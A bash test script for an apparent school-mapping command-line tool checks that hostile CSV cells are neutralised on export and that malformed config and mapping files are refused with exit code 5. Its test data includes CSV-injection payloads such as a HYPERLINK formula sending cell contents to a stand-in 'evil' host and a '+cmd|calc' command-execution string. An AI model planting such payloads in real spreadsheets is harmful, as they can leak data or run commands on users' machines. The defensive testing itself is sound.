#!/usr/bin/env bash
# Careless or hostile input (issue #18, defects 1-8), each check written
# against the defect's reproducer first: formulas in CSV outputs, secrets
# of PG: strings, config files that are directories or hold NUL bytes or
# duplicate keys, exit codes of unusable inputs, outputs replaced as a
# whole, HTML in --attribution, a unit that is its own parent, "-0"
# coordinates.  Usage: test_hostile.sh SCHOOLGIS SG_GENSAMPLE
set -u
. "$(dirname "$0")/tap.sh"
tap_args "$@"
tap_need python3 sqlite3
T=$(mktemp -d /tmp/sg-hostile-XXXXXX) || exit 2
trap 'rm -rf "$T"' EXIT
tap_init
export SCHOOLGIS_DB=$T/s.sqlite
export SCHOOLGIS_LANG=en LANGUAGE=en LC_ALL=C.UTF-8
"$GEN" --quiet "$T/in" || exit 2
"$SG" init -q || exit 2
"$SG" import units "$T/in/district.geojson" --kind district -q || exit 2
"$SG" import units "$T/in/communes.geojson" -q || exit 2

# Hostile school codes and names; one row rejected for its coordinates
# with a formula as its longitude.
python3 - "$T/in/schools.csv" "$T/evil.csv" <<'PY' || exit 2
import csv, sys
rows = list(csv.reader(open(sys.argv[1], encoding='utf-8')))
out = [rows[0]]
for r in rows[1:]:
    if r[0] == 'MN783001':
        r[0] = '=1+1'
        r[1] = '=HYPERLINK("http://evil/?"&A1,"x")'
    if r[0] == 'MN783002':
        r[1] = '@SUM(A1:A9)'
    if r[0] == 'MN783003':
        r[0] = '+cmd|calc'
        r[6] = '=106+1'
    out.append(r)
csv.writer(open(sys.argv[2], 'w', encoding='utf-8', newline='')).writerows(out)
PY
"$SG" import schools "$T/evil.csv" -q 2>/dev/null
[ -s "$T/evil.csv.rejects.csv" ] || { echo "no rejects file" >&2; exit 2; }

# No cell of a CSV file may start a formula, unless it is a plain number.
cat >"$T/noformula.py" <<'PY'
import csv, re, sys
num = re.compile(r'^[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?$')
seen = 0
for path in sys.argv[1:]:
    text = open(path, encoding='utf-8-sig').read()
    for row in csv.reader(text.splitlines()):
        for c in row:
            if c[:1] in ('=', '+', '-', '@', '\t', '\r') and not num.match(c):
                sys.exit('%s: live formula %r' % (path, c))
            if c.startswith("'") and c[1:2] in ('=', '+', '@'):
                seen += 1
if seen == 0:
    sys.exit('no guarded cell found: the hostile rows are missing')
PY
check "1: rejects CSV has no live formula (the longitude '=106+1' guarded)" \
    python3 "$T/noformula.py" "$T/evil.csv.rejects.csv"
check "1: export schools .csv has no live formula" bash -c "
    '$SG' export schools -o '$T/x.csv' -q &&
    python3 '$T/noformula.py' '$T/x.csv'"
check "1: stats ratios --by school --csv has no live formula" bash -c "
    '$SG' stats ratios --by school --csv > '$T/st.csv' &&
    python3 '$T/noformula.py' '$T/st.csv'"
check "1: report-*.csv annexes have no live formula" bash -c "
    '$SG' report --unit 783 -o '$T/rep/report.html' -q 2>/dev/null ||
    { mkdir -p '$T/rep' && '$SG' report --unit 783 -o '$T/rep/report.html' -q; } &&
    python3 '$T/noformula.py' '$T'/rep/report-*.csv"
check "1: a guarded cell reads back as the original text after the apostrophe" \
    python3 -c "
import csv
rows = list(csv.DictReader(open('$T/x.csv', encoding='utf-8-sig')))
names = {r['name'] for r in rows}
assert '\'=HYPERLINK(\"http://evil/?\"&A1,\"x\")' in names, sorted(names)[:5]
assert '\'@SUM(A1:A9)' in names
codes = {r['code'] for r in rows}
assert '\'=1+1' in codes
# numbers written as numbers stay numbers: negative-free lon/lat intact
assert all(float(r['lon']) > 100 for r in rows)"

# 3: config files.
mkdir -p "$T/cfgdir"
check "3: a directory as --standards is refused (exit 5, 'is a directory')" bash -c "
    '$SG' stats ratios --standards '$T/cfgdir' 2>'$T/err'; rc=\$?
    [ \$rc -eq 5 ] && grep -q 'cfgdir: is a directory' '$T/err'"
check "3: a directory as --style is refused (exit 5)" bash -c "
    '$SG' tiles --style '$T/cfgdir' --print-style 2>'$T/err'; rc=\$?
    [ \$rc -eq 5 ] && grep -q 'is a directory' '$T/err'"
check "3: a directory as import --map is refused (exit 5)" bash -c "
    '$SG' import schools '$T/in/schools.csv' --map '$T/cfgdir' 2>'$T/err'; rc=\$?
    [ \$rc -eq 5 ] && grep -q 'is a directory' '$T/err'"
for bad in 'primary = 0' 'primary = 1e308' 'primary = -3'; do
    printf '[ratios]\n%s\n' "$bad" > "$T/bad.ini"
    check "3: standards '$bad' refused naming file:line" bash -c "
        '$SG' stats ratios --standards '$T/bad.ini' 2>'$T/err'; rc=\$?
        [ \$rc -eq 5 ] && grep -q 'bad.ini:2: ratios.primary' '$T/err'"
done
printf '[distance]\nprimary = 1e308\n' > "$T/far.ini"
check "3: an absurd distance (1e308 m) refused" bash -c "
    '$SG' stats ratios --standards '$T/far.ini' 2>'$T/err'; [ \$? -eq 5 ] &&
    grep -q 'far.ini:2: distance.primary' '$T/err'"
printf '[ratios]\nprimary = 20\nprimary = 30\n' > "$T/dup.ini"
check "3: a standard given twice refused, naming both lines" bash -c "
    '$SG' stats ratios --standards '$T/dup.ini' 2>'$T/err'; [ \$? -eq 5 ] &&
    grep -q 'dup.ini:3:.*given twice (also on line 2)' '$T/err'"
printf '[ratios]\nprimary = 2\0000\n' > "$T/nul.ini"
check "3: a NUL byte in standards refused naming the line" bash -c "
    '$SG' stats ratios --standards '$T/nul.ini' 2>'$T/err'; [ \$? -eq 5 ] &&
    grep -q 'nul.ini:2: a NUL byte' '$T/err'"
printf '[units]\nopacity = 0.5\nopacity = 0.7\n' > "$T/dupstyle.ini"
check "3: a style key given twice refused" bash -c "
    '$SG' tiles --style '$T/dupstyle.ini' --print-style 2>'$T/err'; [ \$? -eq 5 ] &&
    grep -q 'dupstyle.ini:3' '$T/err'"
printf '\xef\xbb\xbfcode = Mã trường\nname = Tên trường\n' > "$T/bom.map"
check "4: a mapping file saved with a BOM works" bash -c "
    '$SG' import schools '$T/in/schools.csv' --map '$T/bom.map' -q 2>'$T/err'"
printf 'code = Mã trường\ncode = Tên trường\n' > "$T/dup.map"
check "3: a mapping file naming a field twice is refused (exit 5)" bash -c "
    '$SG' import schools '$T/in/schools.csv' --map '$T/dup.map' 2>'$T/err'; [ \$? -eq 5 ] &&
    grep -q 'dup.map:2' '$T/err'"

tap_done
